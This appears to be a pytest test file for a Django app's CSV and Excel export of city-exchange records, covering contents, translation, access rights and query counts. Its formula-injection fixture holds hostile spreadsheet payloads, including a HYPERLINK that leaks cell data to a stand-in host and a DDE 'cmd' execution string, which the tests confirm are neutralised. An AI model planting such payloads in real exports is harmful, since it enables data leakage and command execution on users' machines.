"""CSV and Excel export of the filtered exchange list: rows, languages, formula injection, rights, queries."""

import csv
import datetime as dt
import io
from urllib.parse import urlencode

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from council.models import City
from teams.models import Exchange, ExchangeParticipation
from tests.factories import ExchangeFactory
from tests.fixtures.transfer import TRANSFER_MARK
from tests.i18n import translated
from tests.texts import warm_content_types

LIST_URL = reverse("teams:exchange-list")
CSV_URL = reverse("teams:exchange-export-csv")
XLSX_URL = reverse("teams:exchange-export-xlsx")
HEADER_EN = [
    "ID",
    "Title",
    "Written in",
    "Team",
    "Focus area",
    "Kind",
    "Status",
    "Start date",
    "End date",
    "Host city",
    "Visiting city",
    "Joint online event",
    "Participants from Seoul",
    "Participants from Beijing",
    "Partner organisations",
    "Description",
    "Outcomes",
    "Agreements signed",
    "Investment committed",
    "Currency",
    "Participants reached",
]


AWAITING_KO = "[Original: 한국어 · awaiting translation]"


def sheet_date(year: int, month: int, day: int) -> dt.datetime:
    """What openpyxl reads from a date cell: a spreadsheet date has no time zone."""
    return dt.datetime(year, month, day)  # noqa: DTZ001


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())  # the byte-order mark Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def read_xlsx(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def signed_in(client, demo_user, username: str, language: str = "en"):
    user = demo_user(username)
    user.person.preferred_language = language
    user.person.save()
    client.force_login(user)
    return user


def test_csv_export_is_exactly_the_filtered_list(client, demo_user, economy, transfer_exchanges):
    signed_in(client, demo_user, "lead-economy-seoul")
    forum, online = transfer_exchanges["forum"], transfer_exchanges["online"]

    response = client.get(CSV_URL, {"q": TRANSFER_MARK, "team": economy.pk})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="exchanges-')
    assert response["Content-Disposition"].endswith('.csv"')
    assert read_csv(response) == [
        HEADER_EN,
        # the list's order: latest start first
        [str(online.pk), f"{TRANSFER_MARK} logistics webinar", "English", "Economy team", "Logistics"]
        + ["Forum or conference", "Planned", "2025-09-01", "", "", "", "Yes", "", "", "", "", "", "0", "", "", ""],
        # written in Korean, not yet translated: as written, marked for the English reader
        [str(forum.pk), f"{TRANSFER_MARK} investment forum {AWAITING_KO}", "한국어", "Economy team", "Investments"]
        + ["Business event", "Completed", "2024-04-21", "2024-04-23", "Seoul", "Beijing", "No", "120", "45"]
        + ["KOTRA\nBeijing Investment Promotion Bureau", f"Annual forum, Seoul side hosting. {AWAITING_KO}"]
        + [f"Two memoranda signed. {AWAITING_KO}", "2", "1500000.50", "USD", "340"],
    ]


def test_xlsx_export_is_exactly_the_filtered_list(client, demo_user, transfer_exchanges):
    signed_in(client, demo_user, "mayor-office-beijing")
    forum, online = transfer_exchanges["forum"], transfer_exchanges["online"]

    response = client.get(XLSX_URL, {"q": TRANSFER_MARK, "kind": "business_event"})

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].endswith('.xlsx"')
    assert read_xlsx(response) == [
        HEADER_EN,
        [forum.pk, f"{TRANSFER_MARK} investment forum {AWAITING_KO}", "한국어", "Economy team", "Investments"]
        + ["Business event", "Completed", sheet_date(2024, 4, 21), sheet_date(2024, 4, 23), "Seoul", "Beijing"]
        + ["No", 120, 45, "KOTRA\nBeijing Investment Promotion Bureau"]
        + [f"Annual forum, Seoul side hosting. {AWAITING_KO}", f"Two memoranda signed. {AWAITING_KO}"]
        + [2, 1500000.5, "USD", 340],
    ]
    assert online.pk not in {row[0] for row in read_xlsx(response)}


def test_xlsx_export_has_a_bold_frozen_heading_and_sized_columns(client, demo_user, transfer_exchanges):
    signed_in(client, demo_user, "secretariat-seoul")

    response = client.get(XLSX_URL, {"q": TRANSFER_MARK})

    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert [cell.font.b for cell in sheet[1]] == [True] * len(HEADER_EN)
    assert [cell.font.b for cell in sheet[2]] == [False] * len(HEADER_EN)
    assert sheet.freeze_panes == "A2"
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width) == (8, 40)
    assert sheet["H2"].number_format == "yyyy-mm-dd"


def test_export_speaks_the_readers_language(client, demo_user, transfer_exchanges):
    signed_in(client, demo_user, "lead-economy-seoul", language="ko")
    forum = transfer_exchanges["forum"]

    rows = read_csv(client.get(CSV_URL, {"q": f"{TRANSFER_MARK} investment forum"}))

    header, row = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert (header[3], header[4], header[6], header[9]) == ("팀", "중점 분야", "상태", "개최 도시")
    with translation.override("ko"):
        status, kind = str(Exchange.Status.COMPLETED.label), str(Exchange.Kind.BUSINESS_EVENT.label)
        participants_seoul = translation.gettext("Participants from %(city)s") % {"city": "서울"}
    assert row["ID"] == str(forum.pk)
    assert (row["팀"], row["중점 분야"], row["개최 도시"], row[header[10]]) == ("경제팀", "투자", "서울", "베이징")
    assert (row["상태"], row[header[5]], row[header[11]]) == (status, kind, "아니오")
    assert row[participants_seoul] == "120"
    assert len(rows) == 2


FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "description": "+1+cmd|' /C calc'!A0",
    "outcomes": "@SUM(A1:A9)",
    "partner_organisations": "-2+3",
}


@pytest.fixture
def formula_exchange(economy) -> Exchange:
    return ExchangeFactory(team=economy, **FORMULAS)


def test_csv_export_neutralises_formulas(client, demo_user, formula_exchange):
    signed_in(client, demo_user, "lead-economy-seoul")

    rows = read_csv(client.get(CSV_URL, {"q": "HYPERLINK"}))

    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Title"] == """'=HYPERLINK("http://evil.example/?leak="&A1,"Open")"""
    assert (row["Description"], row["Outcomes"], row["Partner organisations"]) == (
        "'+1+cmd|' /C calc'!A0",
        "'@SUM(A1:A9)",
        "'-2+3",
    )


def test_xlsx_export_writes_formulas_as_inert_text(client, demo_user, formula_exchange):
    signed_in(client, demo_user, "lead-economy-seoul")

    response = client.get(XLSX_URL, {"q": "HYPERLINK"})

    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    title, description = sheet["B2"], sheet["P2"]
    assert (title.value, title.data_type) == ("""'=HYPERLINK("http://evil.example/?leak="&A1,"Open")""", "s")
    assert (description.value, description.data_type) == ("'+1+cmd|' /C calc'!A0", "s")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_team_member_exports_only_their_teams_exchanges(client, demo_user, transfer_exchanges):
    signed_in(client, demo_user, "member-economy-seoul")

    csv_rows = read_csv(client.get(CSV_URL, {"q": TRANSFER_MARK}))
    xlsx_rows = read_xlsx(client.get(XLSX_URL, {"q": TRANSFER_MARK}))

    economy_ids = [transfer_exchanges["online"].pk, transfer_exchanges["forum"].pk]
    assert [int(row[0]) for row in csv_rows[1:]] == economy_ids
    assert [row[0] for row in xlsx_rows[1:]] == economy_ids


def test_secretariat_exports_its_council_only(client, demo_user, transfer_exchanges):
    signed_in(client, demo_user, "secretariat-seoul")

    rows = read_csv(client.get(CSV_URL, {"q": TRANSFER_MARK}))

    expected = [transfer_exchanges[key].pk for key in ("online", "exhibition", "forum")]
    assert [int(row[0]) for row in rows[1:]] == expected  # not the other council's exchange


@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL])
def test_administrator_without_a_council_role_may_not_export(client, demo_user, transfer_exchanges, url):
    client.force_login(demo_user("admin"))

    assert client.get(url).status_code == 403


@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL])
def test_signed_out_export_goes_to_sign_in(client, db, url):
    response = client.get(url)

    assert response.status_code == 302
    assert response.url.startswith(reverse("login"))


def _exchanges_with_participants(team, count: int) -> None:
    seoul, beijing = City.objects.get(code="SEL"), City.objects.get(code="BJS")
    for exchange in ExchangeFactory.create_batch(count, team=team, title=f"{TRANSFER_MARK} batch"):
        ExchangeParticipation.objects.create(exchange=exchange, city=seoul, participants=3)
        ExchangeParticipation.objects.create(exchange=exchange, city=beijing, participants=4)


@pytest.mark.parametrize("rows", [1, 30])
def test_csv_export_query_count_is_constant(client, demo_user, django_assert_num_queries, economy, rows):
    _exchanges_with_participants(economy, rows)
    signed_in(client, demo_user, "lead-economy-seoul")

    # session, user, person, roles; the readable teams' ids; assembly cycles (filter choices); member
    # cities; exchanges with team, focus area and cities; their participations; the participations' cities;
    # the versions of their texts
    warm_content_types()
    with django_assert_num_queries(11):
        response = client.get(CSV_URL, {"q": TRANSFER_MARK})
        lines = read_csv(response)

    assert len(lines) == 1 + rows


@pytest.mark.parametrize("rows", [1, 30])
def test_xlsx_export_query_count_is_constant(client, demo_user, django_assert_num_queries, economy, rows):
    _exchanges_with_participants(economy, rows)
    signed_in(client, demo_user, "lead-economy-seoul")

    warm_content_types()
    with django_assert_num_queries(11):
        response = client.get(XLSX_URL, {"q": TRANSFER_MARK})

    assert len(read_xlsx(response)) == 1 + rows


@pytest.mark.parametrize("url", [CSV_URL, XLSX_URL])
@pytest.mark.parametrize(
    "query",
    [
        {"team": "abc"},
        {"team": "99999"},
        {"starts_from": "2026-02-30"},
        {"cycle": "99999"},
        {"ordering": "-nonsense"},
        {"q": "\x00"},
    ],
)
def test_a_filter_with_a_mistake_exports_nothing_and_shows_the_list_with_it(client, demo_user, url, query):
    """Ignored, the filter would export the whole list as if it were the one asked for."""
    signed_in(client, demo_user, "secretariat-seoul", "ko")

    assert_export_refused(client, url, query, LIST_URL)


def assert_export_refused(client, url: str, query: dict, list_url: str) -> None:
    """The export sends the reader back to the list with the same filter, and says why (in Korean)."""
    response = client.get(url, query)

    assert (response.status_code, response["Location"]) == (302, f"{list_url}?{urlencode(query)}")
    listed = client.get(response["Location"])
    assert [str(m) for m in listed.context["messages"]] == [
        translated("The filter has a mistake, shown in the list's filters: correct it, then export.", "ko")
    ]
